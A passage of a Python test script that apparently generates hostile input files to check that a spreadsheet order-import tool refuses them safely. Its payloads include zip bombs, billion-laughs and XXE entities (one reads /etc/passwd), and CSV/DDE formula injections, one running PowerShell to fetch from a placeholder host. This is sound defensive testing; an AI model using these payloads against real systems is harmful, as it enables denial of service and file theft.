"""Build a corpus of hostile or broken order reports: what strangers can send to `verifier`/`integrer`.

    python tests/hostile/build_corpus.py DIRECTORY     # writes the files and prints what each one is

Importable: `build(directory) -> list[Case]`. Everything is generated (nothing binary is committed), cheaply:
the zip bomb is a hand-assembled deflate stream (one compressed block repeated), not 1 GB pushed through zlib.

Each `Case` says what `python -m amazon_addin verifier FILE --json` must answer: exit 2 with one French
sentence containing `sentence` (the file cannot be read), exit 1 with the finding `codes` (errors block), or
exit 0 (the file is fine and reading it did nothing else). `config` is a settings file (TOML text) the case is
run with; `texts` are strings that must reach the findings' messages verbatim (formulas stay text).
"""

from __future__ import annotations

import codecs
import io
import os
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

from openpyxl.utils import get_column_letter

_TESTS = Path(__file__).resolve().parents[1]
if str(_TESTS) not in sys.path:
    sys.path.insert(0, str(_TESTS))

import exportgen as X  # noqa: E402

ROOT = _TESTS.parent
MB = 1024 * 1024


@dataclass
class Case:
    name: str  # file name inside the corpus directory
    what: str  # what it is, in a few words
    exit: int  # expected exit code of `verifier FILE --json`
    sentence: str | None = None  # exit 2: a substring of the one French sentence on stderr
    codes: tuple = ()  # exit 1: finding codes that must be present
    config: str | None = None  # TOML settings text: the case runs with `--config <name>.toml`
    texts: tuple = ()  # strings that must appear verbatim in the findings' messages
    integrer: bool = False  # also run `integrer` on it and check the database is unchanged
    orders: int | None = None  # exit 0/1: the number of orders the JSON must count (nothing lost or doubled)
    path: Path | None = field(default=None, repr=False)
    config_path: Path | None = field(default=None, repr=False)


# ------------------------------------------------------------------------------------------ raw zip

def _dos_time() -> tuple[int, int]:
    return (12 << 11) | (0 << 5), ((2026 - 1980) << 9) | (3 << 5) | 5  # 2026-03-05 12:00, fixed


def _deflate(data: bytes, level: int = 6) -> bytes:
    c = zlib.compressobj(level, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


@dataclass
class Member:
    name: str
    payload: bytes  # the bytes stored in the archive (already deflated when method == 8)
    crc: int
    size: int  # uncompressed size written in the headers (a liar may write anything)
    method: int = 8

    @classmethod
    def of(cls, name: str, data: bytes, method: int = 8) -> "Member":
        payload = _deflate(data) if method == 8 else data
        return cls(name, payload, zlib.crc32(data), len(data), method)


def write_zip(path: Path, members: list[Member], aliases: dict | None = None) -> Path:
    """A plain zip written by hand, so that sizes and streams can be whatever a hostile file holds.
    `aliases`: member name → more names whose central directory entries point at the same bytes."""
    t, d = _dos_time()
    out = io.BytesIO()
    central = []
    for m in members:
        name = m.name.encode("utf-8")
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, m.method, t, d, m.crc, len(m.payload),
                              m.size, len(name), 0))
        out.write(name)
        out.write(m.payload)
        for nm in [name] + [a.encode("utf-8") for a in (aliases or {}).get(m.name, ())]:
            central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, m.method, t, d, m.crc,
                                       len(m.payload), m.size, len(nm), 0, 0, 0, 0, 0, offset) + nm)
    start = out.tell()
    for c in central:
        out.write(c)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start,
                          start, 0))
    path = Path(path)
    path.write_bytes(out.getvalue())
    return path


def xlsx_members(rows=None, **kw) -> list[Member]:
    """The parts of a valid openpyxl .xlsx, as `Member`s that can be replaced one by one."""
    data = X.xlsx_bytes(rows, **kw)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [Member.of(i.filename, zf.read(i)) for i in zf.infolist()]


def replace_member(members: list[Member], new: Member) -> list[Member]:
    out = [m for m in members if m.name != new.name]
    out.append(new)
    return out


def part(members: list[Member], name: str) -> bytes:
    """The uncompressed text of one part, without its XML declaration."""
    m = next(m for m in members if m.name == name)
    text = zlib.decompress(m.payload, -15) if m.method == 8 else m.payload
    return text.split(b"?>", 1)[1].lstrip() if text.startswith(b"<?xml") else text


def with_shared_strings(members: list[Member], sst: Member) -> list[Member]:
    """Add xl/sharedStrings.xml as Excel declares it (relationship + content type)."""
    rels = part(members, "xl/_rels/workbook.xml.rels")
    if b"sharedStrings" not in rels:
        rels = rels.replace(b"</Relationships>", b'<Relationship Type="http://schemas.openxmlformats.org/'
                            b'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml" '
                            b'Id="rIdSST" /></Relationships>')
        members = replace_member(members, Member.of("xl/_rels/workbook.xml.rels", rels))
    types = part(members, "[Content_Types].xml")
    if b"sharedStrings" not in types:
        types = types.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                              b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml" /></Types>')
        members = replace_member(members, Member.of("[Content_Types].xml", types))
    return replace_member(members, sst)


def repeated_deflate(prefix: bytes, unit: bytes, copies: int, suffix: bytes) -> Member:
    """`prefix + unit * copies + suffix` deflated without ever building it: the compressed form of `unit`
    after a full flush is the same bytes each time, so it is written once and repeated."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
    piece = c.compress(unit) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(unit) + c.flush(zlib.Z_FULL_FLUSH)
    assert piece == again  # the history is reset by the full flush
    tail = c.compress(suffix) + c.flush()
    crc = zlib.crc32(prefix)
    for _ in range(copies):
        crc = zlib.crc32(unit, crc)
    crc = zlib.crc32(suffix, crc)
    size = len(prefix) + len(unit) * copies + len(suffix)
    return Member("", head + piece * copies + tail, crc, size)


SST_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')


def _bomb_strings(total: int, many: bool = False) -> Member:
    """xl/sharedStrings.xml of `total` bytes: one giant shared string of "A" (a run of one byte is deflate's
    best case, ~1000:1), or `many` short shared strings (~300:1)."""
    if many:
        si = b"<si><t>" + b"A" * 57 + b"</t></si>"  # 73 bytes
        unit = si * ((8 * MB) // len(si))
        m = repeated_deflate(SST_HEAD, unit, total // len(unit), b"</sst>")
    else:
        unit = b"A" * (8 * MB)
        m = repeated_deflate(SST_HEAD + b"<si><t>", unit, total // len(unit), b"</t></si></sst>")
    m.name = "xl/sharedStrings.xml"
    return m


# -------------------------------------------------------------------------------------- the makers

def make_zip_bomb(path: Path) -> Path:
    """A valid workbook whose xl/sharedStrings.xml inflates to ~1 GB from ~1 MB (deflate's ~1000:1)."""
    return write_zip(path, with_shared_strings(xlsx_members(), _bomb_strings(1024 * MB)))


def make_lying_zip_bomb(path: Path) -> Path:
    """The same bomb, but the headers claim the part is small (its real size shows only when inflated)."""
    bomb = _bomb_strings(1024 * MB)
    bomb.size = len(bomb.payload) + 1000
    return write_zip(path, with_shared_strings(xlsx_members(), bomb))


def make_overlapping_zip_bomb(path: Path) -> Path:
    """A non-recursive zip bomb: 24 entries of the central directory point at one compressed part of 256 MB;
    each entry is honest about its size, together they make 6 GB."""
    bomb = _bomb_strings(256 * MB, many=True)
    aliases = {bomb.name: [f"xl/media/copie{k:02d}.xml" for k in range(1, 24)]}
    return write_zip(path, with_shared_strings(xlsx_members(), bomb), aliases=aliases)


LAUGHS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          b'<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
          + b"".join(b' <!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                     for i in range(1, 10))
          + b"]>\n")


def make_billion_laughs(path: Path) -> Path:
    """xl/sharedStrings.xml declaring nine nested entities (10^9 "lol") and using the last one."""
    sst = LAUGHS + SST_HEAD.split(b"\n", 1)[1] + b"<si><t>&lol9;</t></si></sst>"
    return write_zip(path, with_shared_strings(xlsx_members(), Member.of("xl/sharedStrings.xml", sst)))


def make_billion_laughs_workbook(path: Path) -> Path:
    """The entity bomb in xl/workbook.xml (the part the reader itself looks into for the 1904 flag)."""
    members = xlsx_members()
    text = LAUGHS + part(members, "xl/workbook.xml")
    text = text.replace(b"<workbookPr", b'<workbookPr codeName="&lol9;"', 1)
    return write_zip(path, replace_member(members, Member.of("xl/workbook.xml", text)))


def make_xxe(path: Path) -> Path:
    """An external entity (XXE) reading /etc/passwd, in the worksheet."""
    members = xlsx_members()
    text = (b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
            b'<!DOCTYPE worksheet [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n'
            + part(members, "xl/worksheets/sheet1.xml"))
    return write_zip(path, replace_member(members, Member.of("xl/worksheets/sheet1.xml", text)))


def make_truncated_xlsx(path: Path) -> Path:
    return X.make_truncated_xlsx(path)


def make_corrupt_sheet(path: Path) -> Path:
    return X.make_damaged_xlsx(path, member="xl/worksheets/sheet1.xml")


def make_bad_crc(path: Path) -> Path:
    """Every byte inflates fine but the worksheet's CRC is wrong (silent corruption in transit)."""
    members = xlsx_members([X.row(order_id=X.order_id(i)) for i in range(3)])
    for m in members:
        if m.name == "xl/worksheets/sheet1.xml":
            m.crc ^= 0xDEADBEEF
    return write_zip(path, members)


def make_encrypted(path: Path) -> Path:
    return X.write_encrypted_xlsx(path, password="Été2026")


def _ole_sectors_writer(tree: list) -> bytes:
    """A compound file (OLE2, v3, 512-byte sectors) holding `tree`: a list of (name, bytes) streams and
    (name, [children]) storages. olefile reads but cannot add storages, so this writes one from scratch."""
    FREE, END, FATSECT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    entries = [{"name": "Root Entry", "type": 5, "children": [], "data": b""}]

    def add(items, parent):
        for name, content in items:
            e = {"name": name, "type": 1 if isinstance(content, list) else 2, "children": [],
                 "data": b"" if isinstance(content, list) else content}
            entries.append(e)
            parent["children"].append(len(entries) - 1)
            if isinstance(content, list):
                add(content, e)

    add(tree, entries[0])
    # mini stream: streams under 4096 bytes, in 64-byte mini sectors
    mini, minifat = bytearray(), []
    for e in entries[1:]:
        if e["type"] == 2 and len(e["data"]) < 4096:
            n = -(-len(e["data"]) // 64)
            e["start"] = len(minifat) if n else END
            minifat += [len(minifat) + k + 1 for k in range(n)]
            if n:
                minifat[-1] = END
            mini += e["data"].ljust(n * 64, b"\0")
    entries[0]["data"] = bytes(mini)
    sectors: list[bytes] = []
    fat: list[int] = []

    def place(data: bytes) -> int:
        if not data:
            return END
        n = -(-len(data) // 512)
        first = len(sectors)
        for k in range(n):
            sectors.append(data[k * 512:(k + 1) * 512].ljust(512, b"\0"))
            fat.append(first + k + 1 if k < n - 1 else END)
        return first

    for e in entries[1:]:
        if e["type"] == 2 and len(e["data"]) >= 4096:
            e["start"] = place(e["data"])
    entries[0]["start"] = place(entries[0]["data"])
    mf = b"".join(struct.pack("<I", v) for v in minifat)
    mf = mf.ljust(-(-len(mf) // 512) * 512, b"\xff")
    minifat_start = place(mf) if minifat else END
    minifat_count = len(mf) // 512 if minifat else 0

    def key(i):
        n = entries[i]["name"]
        return (len(n), n.upper())

    def tree_of(ids):  # a balanced binary search tree of siblings, all black
        if not ids:
            return FREE
        ids = sorted(ids, key=key)
        mid = len(ids) // 2
        root = ids[mid]
        entries[root]["left"] = tree_of(ids[:mid])
        entries[root]["right"] = tree_of(ids[mid + 1:])
        return root

    for e in entries:
        e["child"] = tree_of(e["children"])
    dir_bytes = b""
    for e in entries:
        name = e["name"].encode("utf-16-le") + b"\0\0"
        size = len(e["data"]) if e["type"] != 1 else 0
        start = e.get("start", END) if e["type"] != 1 else 0
        dir_bytes += (name.ljust(64, b"\0") + struct.pack("<HBB", len(name), e["type"], 1)
                      + struct.pack("<III", e.get("left", FREE), e.get("right", FREE), e["child"])
                      + b"\0" * 16 + b"\0" * 4 + b"\0" * 16 + struct.pack("<IQ", start, size))
    unused = b"\0" * 68 + struct.pack("<III", FREE, FREE, FREE) + b"\0" * 48  # type 0, no links
    while len(dir_bytes) % 512:
        dir_bytes += unused
    dir_start = place(dir_bytes)
    # FAT sectors describe everything, themselves included
    n_fat = 1
    while len(sectors) + n_fat > n_fat * 128:
        n_fat += 1
    fat_ids = list(range(len(sectors), len(sectors) + n_fat))
    fat += [FATSECT] * n_fat
    fat += [FREE] * (n_fat * 128 - len(fat))
    assert n_fat <= 109
    fat_bytes = b"".join(struct.pack("<I", v) for v in fat)
    difat = fat_ids + [FREE] * (109 - n_fat)
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
              + struct.pack("<IIIIIIIII", 0, n_fat, dir_start, 0, 4096, minifat_start, minifat_count, END, 0)
              + b"".join(struct.pack("<I", v) for v in difat))
    assert len(header) == 512
    return header + b"".join(sectors) + fat_bytes


def _ole_tree(data: bytes) -> list:
    """The streams and storages of a compound file, as `_ole_sectors_writer` takes them."""
    import olefile

    ole = olefile.OleFileIO(io.BytesIO(data))
    root: list = []
    nodes = {(): root}
    for path in sorted(ole.listdir(streams=True, storages=True), key=len):
        parent = nodes[tuple(path[:-1])]
        if ole.get_type("/".join(path)) == olefile.STGTY_STORAGE:
            children: list = []
            parent.append((path[-1], children))
            nodes[tuple(path)] = children
        else:
            parent.append((path[-1], ole.openstream("/".join(path)).read()))
    ole.close()
    return root


def make_xls_with_macros(path: Path) -> Path:
    """A real .xls (xlwt's Workbook stream, one valid order) with a `_VBA_PROJECT_CUR` storage holding a
    real VBA project (the one of the add-in's own AmazonImport.xlsm: PROJECT, dir, modules)."""
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        xls = X.write_xls(Path(d) / "x.xls", [X.row()]).read_bytes()
    with zipfile.ZipFile(ROOT / "workbook" / "AmazonImport.xlsm") as zf:
        vba = zf.read("xl/vbaProject.bin")
    tree = _ole_tree(xls) + [("_VBA_PROJECT_CUR", _ole_tree(vba))]
    path = Path(path)
    path.write_bytes(_ole_sectors_writer(tree))
    return path


def make_big_cell_xlsx(path: Path) -> Path:
    """A product name of 10 MB (varied words, as text would be) in a workbook (Excel itself stops at 32 767
    characters; openpyxl silently cuts, so the sheet is written by hand)."""
    return with_sheet(path, sheet_xml(_order_grid(product_name=_big_text(10 * MB))))


def make_big_cell_txt(path: Path) -> Path:
    return X.write_txt(path, [X.row(product_name=_big_text(10 * MB))])


def _big_text(size: int) -> str:
    import random

    rnd = random.Random(10)
    words = ["tasse", "grès", "bleu", "été", "bol", "assiette", "plat", "émail", "lot", "de", "six", "pièces"]
    out, n = [], 0
    while n < size:
        w = rnd.choice(words)
        out.append(w)
        n += len(w.encode("utf-8")) + 1
    return " ".join(out)


def make_million_rows(path: Path) -> Path:
    """One order, but a formatted cell at BD1048576: the used range (dimension A1:BD1048576) spans every row
    of the sheet, as after a user formats whole columns or clears rows without deleting them."""
    import openpyxl
    from openpyxl.styles import PatternFill

    X.write_xlsx(path, [X.row()])
    wb = openpyxl.load_workbook(path)
    ws = wb["Commandes"]
    ws.cell(row=1048576, column=56).fill = PatternFill("solid", fgColor="FFFF00")
    wb.save(path)
    return path


def make_million_empty_cells(path: Path) -> Path:
    """One order, then a million rows that each hold an empty styled cell (`<c r="A5" s="1"/>`): the used
    range is really a million rows long, every row present in the XML."""
    members = xlsx_members([X.row()])
    text = part(members, "xl/worksheets/sheet1.xml")
    text = text.replace(b'<dimension ref="', b'<dimension ref="A1:BD1048576" old="', 1)
    head, tail = text.split(b"</sheetData>", 1)
    rows = b"".join(b'<row r="%d"><c r="A%d" s="0"/><c r="BD%d" s="0"/></row>' % (r, r, r)
                    for r in range(3, 1048577))
    return write_zip(path, replace_member(members, Member.of("xl/worksheets/sheet1.xml",
                                                             head + rows + b"</sheetData>" + tail)))


def make_far_empty_string(path: Path) -> Path:
    """One order, and a formula `=""` in BD1048576 whose cached value is an empty string: the cell has a
    value, so the used range really is A1:BD1048576 (58 million cells if read as a grid)."""
    members = xlsx_members([X.row()])
    text = part(members, "xl/worksheets/sheet1.xml")
    text = text.replace(b'<dimension ref="', b'<dimension ref="A1:BD1048576" old="', 1)
    text = text.replace(b"</sheetData>", b'<row r="1048576"><c r="BD1048576" t="str"><f>""</f><v></v></c></row>'
                                          b"</sheetData>")
    return write_zip(path, replace_member(members, Member.of("xl/worksheets/sheet1.xml", text)))


def make_million_empty_strings(path: Path) -> Path:
    """One order, then 1 048 574 rows each holding an empty text in A: every row is in the XML."""
    members = xlsx_members([X.row()])
    text = part(members, "xl/worksheets/sheet1.xml")
    text = text.replace(b'<dimension ref="', b'<dimension ref="A1:AV1048576" old="', 1)
    head, tail = text.split(b"</sheetData>", 1)
    rows = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t></t></is></c></row>' % (r, r)
                    for r in range(3, 1048577))
    return write_zip(path, replace_member(members, Member.of("xl/worksheets/sheet1.xml",
                                                             head + rows + b"</sheetData>" + tail)))


MAIN_NS = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _esc(text: str) -> bytes:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode("utf-8")


def _col(j: int) -> str:
    return get_column_letter(j + 1)  # 0-based index → Excel letters


def sheet_xml(grid, refs: bool = True, prefix: bytes = b"", dimension: str | None = None,
              extra: bytes = b"") -> bytes:
    """A worksheet written by hand: every cell an inline string, `extra` XML before `</sheetData>`.
    `refs=False` leaves cells without `r` (calamine then places them by counting); `prefix` writes
    every element as `x:name` (as the Open XML SDK does)."""
    p = prefix
    out = [b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n',
           b"<" + p + b"worksheet xmlns" + (b":" + p[:-1] if p else b"") + b'="' + MAIN_NS + b'">']
    if dimension:
        out.append(b"<" + p + b'dimension ref="' + dimension.encode() + b'"/>')
    out.append(b"<" + p + b"sheetData>")
    for i, values in enumerate(grid, start=1):
        out.append(b"<" + p + b'row r="%d">' % i)
        for j, v in enumerate(values):
            ref = b' r="%s%d"' % (_col(j).encode(), i) if refs else b""
            out.append(b"<" + p + b"c" + ref + b' t="inlineStr"><' + p + b"is><" + p + b"t>" + _esc(str(v))
                       + b"</" + p + b"t></" + p + b"is></" + p + b"c>")
        out.append(b"</" + p + b"row>")
    out.append(extra + b"</" + p + b"sheetData></" + p + b"worksheet>")
    return b"".join(out)


def _order_grid(n: int = 1, **overrides):
    return [X.HEADER] + [X.cells([X.row(order_id=X.order_id(k), **overrides)])[0] for k in range(n)]


def with_sheet(path: Path, sheet: bytes) -> Path:
    return write_zip(path, replace_member(xlsx_members(), Member.of("xl/worksheets/sheet1.xml", sheet)))


FAR_CELL = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'


def make_far_cell(path: Path) -> Path:
    """One order and one valued cell in XFD1048576, the last cell of a sheet: 17 billion cells as a grid
    (calamine aborted the process on the 550 GB allocation)."""
    return with_sheet(path, sheet_xml(_order_grid(), dimension="A1:XFD1048576", extra=FAR_CELL))


def make_lying_dimension(path: Path) -> Path:
    """The same far cell, under a `<dimension ref="A1:AV2"/>` that claims a small sheet."""
    return with_sheet(path, sheet_xml(_order_grid(), dimension="A1:AV2", extra=FAR_CELL))


def make_duplicate_ref(path: Path) -> Path:
    """A cell whose first `r` is near and whose second is far (`<c r="A3" r="XFD1048576">`): the last wins."""
    extra = b'<row r="3"><c r="A3" r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return with_sheet(path, sheet_xml(_order_grid(), dimension="A1:AV3", extra=extra))


def make_spaced_ref(path: Path) -> Path:
    """A far cell written `<c t="inlineStr" r = 'BD1048576'>` (attribute order, spaces, single quotes)."""
    extra = b"<row r=\"1048576\"><c t=\"inlineStr\" r = 'BD1048576'><is><t>x</t></is></c></row>"
    return with_sheet(path, sheet_xml(_order_grid(), extra=extra))


def make_rowless_far(path: Path) -> Path:
    """Cells without `r`, placed by counting: a `<row r="1048576">` then 60 unaddressed valued cells."""
    extra = b'<row r="1048576">' + b'<c t="inlineStr"><is><t>x</t></is></c>' * 60 + b"</row>"
    return with_sheet(path, sheet_xml(_order_grid(), extra=extra))


def make_prefixed_far(path: Path) -> Path:
    """A sheet whose elements carry a prefix (`<x:c r="XFD1048576">`), with a far cell."""
    extra = (b'<x:row r="1048576"><x:c r="XFD1048576" t="inlineStr"><x:is><x:t>x</x:t></x:is></x:c>'
             b"</x:row>")
    return with_sheet(path, sheet_xml(_order_grid(), prefix=b"x:", extra=extra))


def make_prefixed(path: Path) -> Path:
    """Two valid orders in a sheet written with an `x:` prefix, as the Open XML SDK writes: read normally."""
    return with_sheet(path, sheet_xml(_order_grid(2), prefix=b"x:", dimension="A1:AV3"))


def make_unaddressed(path: Path) -> Path:
    """Two valid orders whose cells have no `r` (allowed, positions by counting): read normally."""
    return with_sheet(path, sheet_xml(_order_grid(2), refs=False))


def make_far_xls(path: Path) -> Path:
    """An .xls of 6 KB whose one extra text cell sits in IV65536, the last cell of a BIFF8 sheet (16.8 million
    cells as a grid: 1.2 GB before the fix)."""
    import xlwt

    wb = xlwt.Workbook(encoding="utf-8")
    ws = wb.add_sheet("Commandes")
    for i, values in enumerate(_order_grid()):
        for j, v in enumerate(values):
            if v != "":
                ws.write(i, j, v)
    ws.write(65535, 255, "x")
    wb.save(str(path))
    return path


def make_big_lying_xls(path: Path) -> Path:
    """An .xls stream beyond XLS_FULL_SCAN_MAX (2 500 orders, ~1.5 MB) whose DIMENSIONS record claims the
    orders' extent while one text cell sits in IV65536: only the cell records tell the truth."""
    import olefile
    import xlwt

    wb = xlwt.Workbook(encoding="utf-8")
    ws = wb.add_sheet("Commandes")
    grid = _order_grid(2500)
    for i, values in enumerate(grid):
        for j, v in enumerate(values):
            if v != "":
                ws.write(i, j, v)
    ws.write(65535, 255, "x")
    wb.save(str(path))
    with olefile.OleFileIO(str(path), write_mode=True) as ole:
        data = bytearray(ole.openstream("Workbook").read())
        pos, patched = 0, 0
        while pos + 4 <= len(data):
            rtype, size = struct.unpack_from("<HH", data, pos)
            if rtype == 0x0200 and size >= 14:  # DIMENSIONS: rwMic, rwMac, colMic, colMac
                struct.pack_into("<IIHH", data, pos + 4, 0, len(grid), 0, len(grid[0]))
                patched += 1
            pos += 4 + size
        assert patched == 1
        ole.write_stream("Workbook", bytes(data))
    return path


def make_utf16_part(path: Path) -> Path:
    """The worksheet encoded in UTF-16 (a way to hide its markup from byte scans; Excel never does it)."""
    text = sheet_xml(_order_grid()).decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    return with_sheet(path, codecs.BOM_UTF16_LE + text.encode("utf-16-le"))


def make_long_prolog(path: Path) -> Path:
    """A DTD hidden behind 2 MB of XML comments at the top of the worksheet."""
    sheet = sheet_xml(_order_grid())
    decl, rest = sheet.split(b"\n", 1)
    comments = b"<!--" + b"remplissage " * 180_000 + b"-->\n"
    return with_sheet(path, decl + b"\n" + comments + b'<!DOCTYPE worksheet [<!ENTITY a "b">]>\n' + rest)


def make_commented_dtd(path: Path) -> Path:
    """A short comment, then the DTD (a check that stops at the first comment would miss it)."""
    text = LAUGHS.replace(b"<!DOCTYPE", b"<!-- export -->\n<!DOCTYPE", 1)
    sst = text + SST_HEAD.split(b"\n", 1)[1] + b"<si><t>&lol9;</t></si></sst>"
    return write_zip(path, with_shared_strings(xlsx_members(), Member.of("xl/sharedStrings.xml", sst)))


def make_decoy_sheet(path: Path) -> Path:
    """The relationship says `Target="xl/worksheets/vraie.xml"`: calamine reads that part as it is written,
    a normalising reader would look at `xl/xl/worksheets/vraie.xml`, a clean decoy. The real one has the far
    cell."""
    members = xlsx_members()
    rels = part(members, "xl/_rels/workbook.xml.rels").replace(b'Target="/xl/worksheets/sheet1.xml"',
                                                               b'Target="xl/worksheets/vraie.xml"')
    assert b"vraie" in rels
    members = [m for m in members if m.name != "xl/worksheets/sheet1.xml"]
    members = replace_member(members, Member.of("xl/_rels/workbook.xml.rels", rels))
    members.append(Member.of("xl/xl/worksheets/vraie.xml", sheet_xml(_order_grid())))
    members.append(Member.of("xl/worksheets/vraie.xml", sheet_xml(_order_grid(), extra=FAR_CELL)))
    return write_zip(path, members)


def make_zip_encrypted_flag(path: Path) -> Path:
    """A workbook whose parts are flagged as encrypted with the old zip password scheme."""
    members = xlsx_members()
    path = write_zip(path, members)
    data = bytearray(path.read_bytes())
    for sig, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = data.find(sig)
        while pos >= 0:
            data[pos + flag_at] |= 1
            pos = data.find(sig, pos + 4)
    path.write_bytes(bytes(data))
    return path


def make_huge_directory(path: Path) -> Path:
    """A workbook whose end record announces a 100 MB central directory."""
    path = write_zip(path, xlsx_members())
    data = bytearray(path.read_bytes())
    eocd = data.rfind(b"PK\x05\x06")
    data[eocd + 12: eocd + 16] = struct.pack("<I", 100 * MB)
    path.write_bytes(bytes(data))
    return path


def make_newline_name(path: Path) -> Path:
    """A directory whose name holds a line break (the sentence must stay on one line)."""
    path.mkdir()
    return path


FORMULAS = {
    "quantity-purchased": "=1+1",
    "currency": '=HYPERLINK("http://exemple.invalid/?q="&A2,"Cliquez ici")',
    "ship-country": "=cmd|' /C calc'!A0",
    "buyer-name": '=HYPERLINK("http://exemple.invalid","Cécile")',
    "ship-address-1": "=cmd|' /C powershell -c iwr exemple.invalid'!A0",
    "recipient-name": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _formula_row():
    return X.row(**{k.replace("-", "_"): v for k, v in FORMULAS.items()})


def make_formulas_txt(path: Path) -> Path:
    return X.write_txt(path, [_formula_row()])


def make_formulas_csv(path: Path) -> Path:
    return X.write_csv(path, [_formula_row()])


def make_formulas_xlsx_text(path: Path) -> Path:
    """The formula texts in text cells of a workbook (as an export loaded with text columns)."""
    import openpyxl

    X.write_xlsx(path, [X.row()])
    wb = openpyxl.load_workbook(path)
    ws = wb["Commandes"]
    for name, text in FORMULAS.items():
        cell = ws.cell(row=2, column=X.HEADER.index(name) + 1)
        cell.value = text
        cell.data_type = "s"  # a string, not a formula
    wb.save(path)
    return path


def make_formulas_xlsx_cells(path: Path) -> Path:
    """Real formula cells (`<f>`) without a cached value: nothing may compute them, so they read as empty."""
    import openpyxl

    X.write_xlsx(path, [X.row()])
    wb = openpyxl.load_workbook(path)
    ws = wb["Commandes"]
    ws.cell(row=2, column=X.HEADER.index("quantity-purchased") + 1).value = "=1+1"
    ws.cell(row=2, column=X.HEADER.index("ship-country") + 1).value = "=cmd|' /C calc'!A0"
    wb.save(path)
    return path


def make_nul_bytes(path: Path) -> Path:
    return X.write_txt(path, [X.row(buyer_name="Cécile\x00Dupré", ship_address_1="12 rue\x00 de l'Église")])


def make_invalid_utf8(path: Path) -> Path:
    """UTF-8 text with stray bytes (0x81 undefined in cp1252, 0xC3 0x28 an invalid sequence)."""
    path = X.write_txt(path, [X.row(buyer_name="Cécile MARKER1", ship_address_2="Bât MARKER2")])
    data = path.read_bytes().replace(b"MARKER1", b"\x81\xc3\x28").replace(b"MARKER2", b"\xff\xfe\xfd")
    path.write_bytes(data)
    return path


def make_mixed_encodings(path: Path) -> Path:
    """Lines appended by different tools: the header and first row in UTF-8, the second row in cp1252."""
    first = X.write_txt(path, [X.row()]).read_bytes()
    second = ("\t".join(X.cells([X.row(order_id=X.order_id(2), buyer_name="Hélène Lefèvre",
                                       recipient_name="Hélène Lefèvre", bill_name="Hélène Lefèvre")])[0])
              + "\n").encode("cp1252")
    Path(path).write_bytes(first + second)
    return Path(path)


def make_duplicated_headers(path: Path) -> Path:
    """Two `sku` columns and two `item-price` columns: the first of each is read, the second kept aside."""
    header = X.HEADER + ["sku", "item-price"]
    return X.write_txt(path, [list(X.cells([X.row()])[0]) + ["AUTRE-SKU", "99.99"]], header=header)


def make_shifted_headers(path: Path) -> Path:
    """The header on row 3 and an extra empty column A (a user's re-save)."""
    rows = [[""] + list(c) for c in X.cells([X.row(), X.row(order_id=X.order_id(3))])]
    return X.write_xlsx(path, rows, header=[""] + X.HEADER, header_row=3)


def make_header_only(path: Path) -> Path:
    return X.write_txt(path, [])


def make_1904(path: Path) -> Path:
    return X.write_xlsx(path, [X.row(), X.row(order_id=X.order_id(4))], numeric=True, date1904=True)


def make_bad_quantities(path: Path) -> Path:
    return X.write_txt(path, [X.row(quantity_purchased="-1"),
                              X.row(order_id=X.order_id(5), quantity_purchased="1.5"),
                              X.row(order_id=X.order_id(6), quantity_purchased="0,5")])


def make_thousands(path: Path) -> Path:
    """Amounts with thousands separators: `1 234,56`, `1.234,56`, NBSP, in a French csv."""
    rows = [X.row(item_price="1 234,56", item_tax="205,76", vat_exclusive_item_price="1 028,80"),
            X.row(order_id=X.order_id(7), item_price="1.234,56", item_tax="205,76",
                  vat_exclusive_item_price="1.028,80"),
            X.row(order_id=X.order_id(8), item_price="1\u00a0234,56", item_tax="205,76",
                  vat_exclusive_item_price="1\u00a0028,80")]
    return X.write_csv(path, rows, encoding="utf-8")


def make_empty(path: Path) -> Path:
    return X.make_empty(path)


def make_binary_txt(path: Path) -> Path:
    return X.make_random_bytes(path, size=65536, seed=11)


def make_nul_heavy_txt(path: Path) -> Path:
    """A PNG header then 4 KB of NUL bytes, named .txt."""
    path.write_bytes(X.png_bytes() + b"\x00" * 4096)
    return path


def make_png_xlsx(path: Path) -> Path:
    return X.make_png(path)


def make_directory(path: Path) -> Path:
    path.mkdir()
    (path / "dedans.txt").write_text("x", encoding="utf-8")
    return path


def make_fifo(path: Path) -> Path:
    os.mkfifo(path)  # opening it would block forever: it must be refused without being opened
    return path


def make_device_link(path: Path) -> Path:
    os.symlink("/dev/zero", path)  # endless zeros behind an ordinary name
    return path


def make_over_size(path: Path) -> Path:
